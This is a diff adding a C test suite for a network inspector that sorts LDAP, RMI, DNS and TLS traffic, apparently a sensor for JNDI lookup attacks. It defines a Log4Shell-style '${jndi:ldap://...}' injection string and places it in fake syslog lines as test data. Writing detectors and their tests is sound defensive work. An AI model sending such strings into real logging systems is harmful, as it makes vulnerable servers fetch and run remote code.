@@ -1,0 +1,298 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+#include "inspect/inspector.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdlib.h>
+
+#include <cmocka.h>
+
+#include "base/count.h"
+#include "inspect/hold.h"
+#include "support/conversation.h"
+#include "support/wire.h"
+
+#define LOOKUP "${jndi:ldap://203.0.113.9/a}"
+
+static struct transcript play_with(const struct config *config, uint8_t proto, const struct said *said,
+                                   unsigned n)
+{
+    struct conversation c = {.said = said, .n = n, .proto = proto};
+    struct transcript t;
+
+    count_reset();
+    conversation_play(&c, config, &t);
+    assert_int_equal(holds_bytes(), 0);
+    return t;
+}
+
+static struct transcript play(uint8_t proto, const struct said *said, unsigned n)
+{
+    struct config config = conversation_config();
+
+    return play_with(&config, proto, said, n);
+}
+
+static void unknown_text_is_raw(void **state)
+{
+    struct said said[] = {{0, BYTES_LIT("<13>1 - vm root - - [x] login failed " LOOKUP "\n"), 0},
+                          {1, BYTES_LIT("whatever the server says"), 0}};
+    struct config config = conversation_config();
+    struct transcript t = play(PROTO_TCP, said, 2);
+
+    (void)state;
+    assert_true(bytes_eq(buf_bytes(&t.raw[0]), said[0].data));
+    assert_true(bytes_eq(buf_bytes(&t.raw[1]), said[1].data));
+    assert_int_equal(counters[COUNT_INSPECT_RAW], 1);
+    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 0);
+    transcript_drop(&t);
+    conversation_assert_same_in_pieces(said, 2, &config);
+}
+
+static void raw_datagrams_stand_alone(void **state)
+{
+    struct said said[40];
+    struct config config = conversation_config();
+    struct transcript t;
+
+    (void)state;
+    config.raw_depth = 100; /* of a stream; datagrams go on for days */
+    for (unsigned i = 0; i < 40; i++)
+        said[i] = (struct said){0, BYTES_LIT("<13>1 - vm " LOOKUP), 0};
+    t = play_with(&config, PROTO_UDP, said, 40);
+    assert_int_equal(t.raw[0].len, 40 * said[0].data.len);
+    assert_int_equal(counters[COUNT_INSPECT_SKIPPED_BYTES], 0);
+    assert_int_equal(t.n_enough, 0);
+    transcript_drop(&t);
+}
+
+static void depth_is_spent_and_counted(void **state)
+{
+    struct said said[] = {{0,
+                           BYTES_LIT("\x01"
+                                     "aaaaaaaaabbbbbbbbbb"),
+                           0},
+                          {0, BYTES_LIT("cccccccccc"), 0}};
+    struct config config = conversation_config();
+    struct transcript t;
+
+    (void)state;
+    config.raw_depth = 25;
+    t = play_with(&config, PROTO_TCP, said, 2);
+    assert_int_equal(t.raw[0].len, 25);
+    assert_int_equal(counters[COUNT_INSPECT_SKIPPED_BYTES], 5);
+    assert_int_equal(t.n_enough, 2); /* the chunk that went beyond, and the end */
+    transcript_drop(&t);
+}
+
+static void switches_are_heeded(void **state)
+{
+    struct said said[] = {{0, wire_ldap_search, 0}, {1, wire_ldap_entry, 0}};
+    struct config config = conversation_config();
+    struct transcript t;
+
+    (void)state;
+    config.ldap = false;
+    t = play_with(&config, PROTO_TCP, said, 2);
+    assert_int_equal(t.text.len, 0);
+    assert_true(bytes_eq(buf_bytes(&t.raw[1]), wire_ldap_entry));
+    transcript_drop(&t);
+    config.raw = false;
+    t = play_with(&config, PROTO_TCP, said, 2);
+    assert_int_equal(t.raw[1].len, 0);
+    assert_int_equal(counters[COUNT_INSPECT_SKIPPED_BYTES], wire_ldap_search.len + wire_ldap_entry.len);
+    transcript_drop(&t);
+    said[0].data = wire_dns_txt_query;
+    config.dns = false;
+    t = play_with(&config, PROTO_UDP, said, 1);
+    assert_int_equal(t.text.len, 0);
+    transcript_drop(&t);
+}
+
+/* Counts once, knows the client from the content, and lets each side be first. */
+static void either_side_may_be_first(void **state)
+{
+    struct said client_first[] = {{1, wire_ldap_search, 0}, {0, wire_ldap_entry, 0}};
+    struct said server_first[] = {{0, wire_ldap_entry, 0}, {1, wire_ldap_search, 0}};
+    struct transcript t = play(PROTO_TCP, client_first, 2);
+
+    (void)state;
+    assert_true(transcript_has(&t, "1 ldap ldap.search_base"));
+    assert_int_equal(counters[COUNT_INSPECT_LDAP], 1);
+    assert_int_equal(counters[COUNT_INSPECT_RAW], 0);
+    transcript_drop(&t);
+    t = play(PROTO_TCP, server_first, 2);
+    assert_true(transcript_has(&t, "0 ldap fact #0 ldap.responses.operation=search_result_entry;"));
+    assert_true(transcript_has(&t, "1 ldap ldap.search_base"));
+    transcript_drop(&t);
+}
+
+/* A server's greeting that nobody knows does not hide what the client says, and the other way round. */
+static void one_side_unknown(void **state)
+{
+    struct said said[] = {{1, BYTES_LIT("* middle of something " LOOKUP), 0},
+                          {0, wire_ldap_search, 0},
+                          {1, wire_ldap_entry, 0}};
+    struct transcript t = play(PROTO_TCP, said, 3);
+
+    (void)state;
+    assert_true(transcript_raw_has(&t, 1, LOOKUP));
+    assert_true(transcript_has(&t, "ldap.search_base #0 a\n"));
+    assert_true(transcript_has(&t, "search_result_entry"));
+    transcript_drop(&t);
+}
+
+/* A capture that begins inside a PDU: the rest of that is raw, the next segment is LDAP again. */
+static void midstream_inside_a_message(void **state)
+{
+    struct said said[] = {
+        {1, bytes_from(wire_ldap_entry, 50), 0}, {0, wire_ldap_search, 0}, {1, wire_ldap_done, 0}};
+    struct said one_sided[] = {{1, bytes_from(wire_ldap_entry, 50), 0}, {1, wire_rmi_reference, 0}};
+    struct transcript t = play(PROTO_TCP, said, 3);
+
+    (void)state;
+    assert_true(transcript_has(&t, "ldap.search_base"));
+    assert_true(transcript_has(&t, "search_result_done"));
+    assert_int_equal(counters[COUNT_INSPECT_LDAP], 1);
+    transcript_drop(&t);
+    t = play(PROTO_TCP, one_sided, 2);
+    assert_true(transcript_has(&t, "jndi.stage=reference"));
+    assert_int_equal(counters[COUNT_INSPECT_RMI], 1);
+    transcript_drop(&t);
+}
+
+static void gap_while_unknown(void **state)
+{
+    struct said said[] = {{0, BYTES_LIT("JR"), 0}, {0, wire_ldap_search, 5}};
+    struct transcript t = play(PROTO_TCP, said, 2);
+
+    (void)state;
+    assert_true(transcript_raw_has(&t, 0, "JR"));
+    assert_true(transcript_has(&t, "ldap.search_base"));
+    transcript_drop(&t);
+}
+
+/* What is held for recognition is not lost when the direction ends, or grows too long. */
+static void held_bytes_go_raw(void **state)
+{
+    static uint8_t big[9000] = {0x2e, 0xe0}; /* could be DNS over TCP until it is too long */
+    struct said ends[] = {{0, BYTES_LIT("JRM"), 0}};
+    struct said grows[] = {{0, bytes_of(big, 4000), 0}, {0, bytes_of(big + 4000, 5000), 0}};
+    struct transcript t = play(PROTO_TCP, ends, 1);
+
+    (void)state;
+    assert_true(bytes_eq(buf_bytes(&t.raw[0]), ends[0].data));
+    transcript_drop(&t);
+    t = play(PROTO_TCP, grows, 2);
+    assert_true(bytes_eq(buf_bytes(&t.raw[0]), bytes_of(big, sizeof big)));
+    transcript_drop(&t);
+}
+
+static void tls_when_both_say_hello(void **state)
+{
+    struct said said[] = {{0, wire_tls_client_hello, 0},
+                          {1, wire_tls_server_hello, 0},
+                          {0, BYTES_LIT("\x17\x03\x03\x00\x10................"), 0}};
+    struct transcript t = play(PROTO_TCP, said, 3);
+
+    (void)state;
+    assert_true(bytes_eq(buf_bytes(&t.raw[0]), wire_tls_client_hello)); /* a name in it may hold a lookup */
+    assert_true(bytes_eq(buf_bytes(&t.raw[1]), wire_tls_server_hello));
+    assert_int_equal(counters[COUNT_INSPECT_TLS], 1);
+    assert_int_equal(counters[COUNT_INSPECT_TLS_BYTES], wire_tls_server_hello.len + 21);
+    assert_int_equal(counters[COUNT_INSPECT_RAW], 0);
+    assert_int_equal(t.n_enough, 4);
+    transcript_drop(&t);
+}
+
+/* A false hello to a server that speaks in clear must not switch the sensor off. */
+static void false_hello(void **state)
+{
+    struct said said[] = {
+        {0, wire_tls_client_hello, 0}, {1, BYTES_LIT("500 what?\r\n"), 0}, {0, BYTES_LIT("log " LOOKUP), 0}};
+    struct said both_clients[] = {
+        {0, wire_tls_client_hello, 0}, {1, wire_tls_client_hello, 0}, {0, BYTES_LIT("log " LOOKUP), 0}};
+    struct transcript t = play(PROTO_TCP, said, 3);
+
+    (void)state;
+    assert_true(transcript_raw_has(&t, 0, LOOKUP));
+    transcript_drop(&t);
+    t = play(PROTO_TCP, both_clients, 3);
+    assert_true(transcript_raw_has(&t, 0, LOOKUP));
+    transcript_drop(&t);
+}
+
+/* STARTTLS: the parser gives up, both sides say hello, nothing is read any more. */
+static void tls_inside_ldap(void **state)
+{
+    struct said said[] = {{0, wire_ldap_bind, 0},
+                          {1, wire_ldap_bind_ok, 0},
+                          {0, wire_tls_client_hello, 0},
+                          {1, wire_tls_server_hello, 0},
+                          {0, BYTES_LIT("\x17\x03\x03\x00\x10................"), 0}};
+    struct transcript t = play(PROTO_TCP, said, 5);
+
+    (void)state;
+    assert_int_equal(counters[COUNT_INSPECT_TLS], 1);
+    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 2);
+    assert_int_equal(t.n_enough, 4);
+    transcript_drop(&t);
+}
+
+static void memory_short_for_holds(void **state)
+{
+    struct config config = conversation_config();
+    struct said said[] = {{0, wire_ldap_search, 0}, {1, wire_ldap_serialized, 0}};
+    struct conversation c = {.said = said, .n = 2, .proto = PROTO_TCP, .piece = 100};
+    struct transcript t;
+
+    (void)state;
+    count_reset();
+    config.stream_memcap = 600; /* a quarter of it for holds: less than the entry */
+    conversation_play(&c, &config, &t);
+    assert_true(counters[COUNT_INSPECT_MEMORY] > 0);
+    assert_true(transcript_raw_has(&t, 1, "ArrayList")); /* raw, without lookback */
+    assert_int_equal(holds_bytes(), 0);
+    transcript_drop(&t);
+}
+
+static void empty_flows(void **state)
+{
+    struct flow flow = {.id = 1, .proto = PROTO_TCP};
+    struct chunk end = {.flow = &flow, .begin = true, .end = true};
+    struct config config = conversation_config();
+    struct inspect *i = inspect_new(&config, NULL, NULL); /* nothing may be given */
+
+    (void)state;
+    count_reset();
+    assert_non_null(i);
+    inspect_flow_end(i, &flow);
+    (void)inspect_chunk(i, &end);
+    inspect_flow_end(i, &flow);
+    assert_null(flow.inspect_slot);
+    assert_int_equal(counters[COUNT_INSPECT_RAW], 0);
+    inspect_free(i);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(unknown_text_is_raw),
+        cmocka_unit_test(raw_datagrams_stand_alone),
+        cmocka_unit_test(depth_is_spent_and_counted),
+        cmocka_unit_test(switches_are_heeded),
+        cmocka_unit_test(either_side_may_be_first),
+        cmocka_unit_test(one_side_unknown),
+        cmocka_unit_test(midstream_inside_a_message),
+        cmocka_unit_test(gap_while_unknown),
+        cmocka_unit_test(held_bytes_go_raw),
+        cmocka_unit_test(tls_when_both_say_hello),
+        cmocka_unit_test(false_hello),
+        cmocka_unit_test(tls_inside_ldap),
+        cmocka_unit_test(memory_short_for_holds),
+        cmocka_unit_test(empty_flows),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
